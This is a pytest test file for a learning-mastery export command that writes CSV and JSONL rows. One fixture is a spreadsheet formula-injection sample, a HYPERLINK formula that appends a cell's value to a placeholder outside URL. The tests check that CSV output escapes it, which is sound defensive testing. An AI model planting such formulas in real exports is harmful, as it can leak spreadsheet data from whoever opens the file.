import csv
import json

import pytest

from tests.mastery.events import outcome, result
from tests.support.changelog import make_changelog, rows_as_stored, write_rows

FORMULA = '=HYPERLINK("https://example.org/"&B2)'
EVENTS = [
    outcome("average", title='Reads "maps", and draws them'),
    *[result(id="1", user_uuid=student, score=4.0, percent=0.8) for student in ("ann", "bob")],
    result(id="2", user_uuid="bob", score=1.0, percent=0.2, result_context_id="500"),
    result(id="3", user_uuid="cleo", account="elsewhere"),
    outcome("highest", learning_outcome_id="78", title=FORMULA),
    result(id="4", user_uuid="dora", learning_outcome_id="78", score=-1.0, percent=None),
]


@pytest.fixture
def rows(settings):
    make_changelog(settings)
    write_rows(settings, rows_as_stored(EVENTS))


@pytest.fixture
def run(mastery, tmp_path):
    """Export to a file; return its content, and what was said."""

    def call(*arguments):
        folder = tmp_path / "out"
        folder.mkdir(exist_ok=True)
        done = mastery("state", "export", "--out", folder / "rows", *arguments)
        assert (done.status, done.out) == (0, "")
        assert [path.name for path in folder.iterdir()] == ["rows"]
        return (folder / "rows").read_text(), done.err

    return call


# One test, as making the topic takes longer than all else.
@pytest.mark.usefixtures("rows")
def test_all_rows_in_every_form(run, mastery):
    text, err = run()
    lines = sorted(csv.DictReader(text.splitlines()), key=lambda line: line["user_uuid"])
    assert [(line["user_uuid"], line["score"], line["mastery"]) for line in lines] == [
        ("ann", "4.0", "true"),
        ("bob", "2.5", "false"),
        ("cleo", "", ""),
        ("dora", "-1.0", "false"),
    ]
    assert lines[3]["outcome_title"] == "'" + FORMULA
    assert lines[0]["outcome_title"] == 'Reads "maps", and draws them'
    assert lines[2]["definition_state"] == "unknown"
    assert lines[0]["last_assessed_at"].endswith("Z")
    assert err == "4 rows written\n"

    lines = list(csv.DictReader(run("--courses", "--account", "account-uuid")[0].splitlines()))
    assert sorted((line["user_uuid"], line["course_id"], line["score"]) for line in lines) == [
        ("ann", "", "4.0"),
        ("ann", "565", "4.0"),
        ("bob", "", "2.5"),
        ("bob", "500", "1.0"),
        ("bob", "565", "4.0"),
        ("dora", "", "-1.0"),
        ("dora", "565", "-1.0"),
    ]

    rows = {row["user_uuid"]: row for row in map(json.loads, run("--format", "jsonl")[0].splitlines())}
    assert [course["score"] for course in rows["bob"]["courses"]] == [1.0, 4.0]
    assert rows["cleo"]["score"] is None
    assert rows["dora"]["outcome_title"] == FORMULA

    done = mastery("state", "export", "--format", "jsonl")
    assert {row["user_uuid"]: row for row in map(json.loads, done.out.splitlines())} == rows


def test_what_fails_leaves_no_file(mastery, tmp_path):
    done = mastery("state", "export", "--out", tmp_path / "rows")
    assert done.status == 1
    assert "has no topic" in done.err
    assert list(tmp_path.iterdir()) == []
    assert mastery("state", "export", "--out", tmp_path / "no" / "rows").status != 0
    assert mastery("state", "export", "--format", "jsonl", "--courses").status == 2
